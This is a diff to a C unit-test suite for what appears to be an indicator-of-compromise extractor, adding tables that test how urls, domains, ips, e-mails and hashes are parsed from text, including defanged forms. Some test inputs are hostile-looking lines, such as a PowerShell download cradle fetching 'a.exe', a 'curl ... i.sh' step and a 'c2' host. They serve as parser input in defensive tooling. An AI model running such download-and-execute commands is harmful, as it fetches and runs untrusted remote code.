@@ -104,7 +104,7 @@ static const scan_case_t scans[] = {
     {"fxp://files.example.org/f", "url:ftp://files.example.org/f\ndomain:files.example.org\n"},
     {"http://evil.com/a http://evil.com/b",
      "url:http://evil.com/a\ndomain:evil.com\nurl:http://evil.com/b\n"},
-    {"xhttp://evil.com", ""},
+    {"xhttp://evil.com", "domain:evil.com\n"}, /* no url scheme: the host only */
     {"http://evil.com/a\x01"
      "b and https://evil.org/\xc2\xa0x",
      "url:http://evil.com/a\ndomain:evil.com\nurl:https://evil.org/\ndomain:evil.org\n"},
@@ -151,6 +151,182 @@ static void test_scan_table(void **state)
     }
     am_arena_free(a);
     assert_int_equal(failures, 0);
+}
+
+/* ---- boundary and validation rules (docs/indicators.md), one table each ---- */
+
+static int run_cases(const char *what, const scan_case_t *cases, size_t n)
+{
+    am_arena_t *a = am_arena_new(8192, 0);
+    int failures = 0;
+    for (size_t i = 0; i < n; i++) {
+        const char *got = scan(a, cases[i].text, IOC_MASK_ALL);
+        if (strcmp(got, cases[i].want) != 0) {
+            fprintf(stderr, "%s case %zu: %s\n--- want\n%s--- got\n%s---\n", what, i, cases[i].text,
+                    cases[i].want, got);
+            failures++;
+        }
+    }
+    am_arena_free(a);
+    return failures;
+}
+
+#define RUN_CASES(t) assert_int_equal(run_cases(#t, t, AM_ARRAY_LEN(t)), 0)
+
+/* A quote, parenthesis, bracket or brace that opens right before a url
+ * closes it; a backtick ends it; "](" splits a Markdown link. */
+static const scan_case_t url_ends[] = {
+    {"iex (New-Object Net.WebClient).DownloadFile('http://cdn.contoso.com/a.exe','x')",
+     "url:http://cdn.contoso.com/a.exe\ndomain:cdn.contoso.com\n"},
+    {"see (https://contoso.com/wiki/A_(b)) here",
+     "url:https://contoso.com/wiki/A_(b)\ndomain:contoso.com\n"},
+    {"[link](https://contoso.com/x) and [https://contoso.org/a](https://contoso.org/b)",
+     "url:https://contoso.com/x\ndomain:contoso.com\nurl:https://contoso.org/a\n"
+     "domain:contoso.org\nurl:https://contoso.org/b\n"},
+    {"run `curl https://contoso.com/i.sh` now",
+     "url:https://contoso.com/i.sh\ndomain:contoso.com\n"},
+    {"{http://contoso.com/p}", "url:http://contoso.com/p\ndomain:contoso.com\n"},
+    {"x=https://contoso.com/a'b", "url:https://contoso.com/a'b\ndomain:contoso.com\n"},
+    {"https://contoso.com/p\xef\xbc\x9e and \xe3\x80\x8chttps://contoso.org/\xe3\x80\x8d",
+     "url:https://contoso.com/p\ndomain:contoso.com\nurl:https://contoso.org/\n"
+     "domain:contoso.org\n"},
+};
+
+static void test_url_ends(void **state)
+{
+    (void)state;
+    RUN_CASES(url_ends);
+}
+
+/* A url that fails validation still yields its host; "[/]" is a defang. */
+static const scan_case_t failed_url_host[] = {
+    {"http://contoso.com[/]login", "url:http://contoso.com/login\ndomain:contoso.com\n"},
+    {"http://contoso.com(/)login", "domain:contoso.com\n"},
+    {"hxxps://contoso.com[/login", "domain:contoso.com\n"},
+    {"http://[contoso.com", "domain:contoso.com\n"},
+    {"http://contoso.com\\\\share", "domain:contoso.com\n"},
+    {"http://2001:db8:0:0:0:0:0:7", "ip:2001:db8::7\n"},
+    {"http://user@contoso.com:99999/", "domain:contoso.com\n"},
+};
+
+static void test_failed_url_keeps_host(void **state)
+{
+    (void)state;
+    RUN_CASES(failed_url_host);
+}
+
+/* http, https, ftp, ftps, sftp, ws and wss are urls; after any other
+ * scheme only the host is reported. */
+static const scan_case_t schemes[] = {
+    {"sftp://files.contoso.com/in wss://ws.contoso.com/s",
+     "url:sftp://files.contoso.com/in\ndomain:files.contoso.com\nurl:wss://ws.contoso.com/s\n"
+     "domain:ws.contoso.com\n"},
+    {"tcp://c2.contoso[.]com:443/ udp://198.51.100.7:53 ldap://dc.contoso.org/",
+     "domain:c2.contoso.com\nip:198.51.100.7\ndomain:dc.contoso.org\n"},
+    {"ssh://root@bastion.contoso.com:2222", "domain:bastion.contoso.com\n"},
+    {"smb://[2001:db8::5]/share", "ip:2001:db8::5\n"},
+    {"h__p://mangled.contoso.com/x and ://contoso.org", "domain:mangled.contoso.com\n"
+                                                        "domain:contoso.org\n"},
+};
+
+static void test_schemes(void **state)
+{
+    (void)state;
+    RUN_CASES(schemes);
+}
+
+/* Every Unicode space separates words like an ASCII space. */
+static const scan_case_t unicode_spaces[] = {
+    {"to\xc2\xa0"
+     "contoso.com",
+     "domain:contoso.com\n"},
+    {"host\xe2\x80\x83"
+     "contoso.org\xe2\x80\xaf"
+     "then",
+     "domain:contoso.org\n"},
+    {"ip\xe3\x80\x80"
+     "198.51.100.9\xe2\x80\xa8"
+     "x",
+     "ip:198.51.100.9\n"},
+    {"a\xe1\x9a\x80"
+     "bob@contoso.com",
+     "email:bob@contoso.com\n"},
+    {"no break inside: contoso\xc2\xa0.com", ""},
+};
+
+static void test_unicode_spaces(void **state)
+{
+    (void)state;
+    RUN_CASES(unicode_spaces);
+}
+
+/* The address literal of an e-mail candidate is an ip; an address in
+ * brackets is an address. */
+static const scan_case_t email_literals[] = {
+    {"root@198.51.100.20", "ip:198.51.100.20\n"},
+    {"postmaster@[198.51.100.21]", "ip:198.51.100.21\n"},
+    {"ops@[ipv6:2001:db8::22]", "ip:2001:db8::22\n"},
+    {"relay [198.51.100.23] and (2001:db8::24)", "ip:198.51.100.23\nip:2001:db8::24\n"},
+};
+
+static void test_email_literals(void **state)
+{
+    (void)state;
+    RUN_CASES(email_literals);
+}
+
+/* '#' belongs to the local part, '-' runs before it do not; '_' in the
+ * domain part makes it no e-mail but never a cut-short account; spaced
+ * bracket defangs join their words. */
+static const scan_case_t email_edges[] = {
+    {"a#b@contoso.com", "email:a#b@contoso.com\n"},
+    {"-----carol@contoso.com", "email:carol@contoso.com\n"},
+    {"dave@chat_srv.contoso.com", "account:dave@chat_srv.contoso.com\n"},
+    {"erin@contoso [.] com", "email:erin@contoso.com\n"},
+    {"frank [at] contoso.org", "email:frank@contoso.org\n"},
+    {"grace {@} contoso [dot] net", "email:grace@contoso.net\n"},
+    {"sub [.] contoso [.] com", "domain:sub.contoso.com\n"},
+    {"meet (at) noon", ""},
+    {"list [.] ", ""},
+};
+
+static void test_email_edges(void **state)
+{
+    (void)state;
+    RUN_CASES(email_edges);
+}
+
+/* An address right after a dot is part of a longer name or number, except
+ * after two or more dots (punctuation). */
+static const scan_case_t ip_after_punct[] = {
+    {"!?..198.51.100.30;", "ip:198.51.100.30\n"},
+    {"...2001:db8::31!", "ip:2001:db8::31\n"},
+    {".198.51.100.32", ""},
+    {"x.198.51.100.33 and 7.198.51.100.34", ""},
+};
+
+static void test_ip_after_punctuation(void **state)
+{
+    (void)state;
+    RUN_CASES(ip_after_punct);
+}
+
+/* A hash in a url path is a hash as well as part of the url. */
+static const scan_case_t url_hashes[] = {
+    {"https://scan.contoso.com/file/" H64 "/info",
+     "url:https://scan.contoso.com/file/" H64 "/info\ndomain:scan.contoso.com\nhash_sha256:" H64
+     "\n"},
+    {"http://contoso.com/d?md5=" H32 "&x",
+     "url:http://contoso.com/d?md5=" H32 "&x\ndomain:contoso.com\nhash_md5:" H32 "\n"},
+    {"http://contoso.com/x" H40, "url:http://contoso.com/x" H40 "\ndomain:contoso.com\n"},
+    {"http://" H32 ".contoso.com/",
+     "url:http://" H32 ".contoso.com/\ndomain:" H32 ".contoso.com\n"},
+};
+
+static void test_hash_in_url_path(void **state)
+{
+    (void)state;
+    RUN_CASES(url_hashes);
 }
 
 /* The shipped file's skip_after_alnum must not change any result. */
@@ -506,7 +682,8 @@ static const bad_case_t bad_rules[] = {
     {"rules:\n  - name: x\n    type: ipv4\n    pattern: a\n",
      ":3:11: unknown indicator type 'ipv4' (expected one of: ip, domain"},
     {"rules:\n  - name: x\n    type: ip\n    patern: a\n",
-     ":4:5: unknown key 'patern' (expected one of: name, type, pattern, flags, description)"},
+     ":4:5: unknown key 'patern' (expected one of: name, type, pattern, flags, host_only, "
+     "description)"},
     {"rules:\n  - name: x\n    type: ip\n", ":2:5: missing key 'pattern'"},
     {"rules:\n  - type: ip\n    pattern: a\n", ":2:5: missing key 'name'"},
     {"rules:\n  - name: x\n    pattern: a\n", ":2:5: missing key 'type'"},
@@ -650,6 +827,14 @@ int main(void)
 {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(test_scan_table),
+        cmocka_unit_test(test_url_ends),
+        cmocka_unit_test(test_failed_url_keeps_host),
+        cmocka_unit_test(test_schemes),
+        cmocka_unit_test(test_unicode_spaces),
+        cmocka_unit_test(test_email_literals),
+        cmocka_unit_test(test_email_edges),
+        cmocka_unit_test(test_ip_after_punctuation),
+        cmocka_unit_test(test_hash_in_url_path),
         cmocka_unit_test(test_skip_after_alnum_is_safe),
         cmocka_unit_test(test_splunk_raw),
         cmocka_unit_test(test_prose_description),
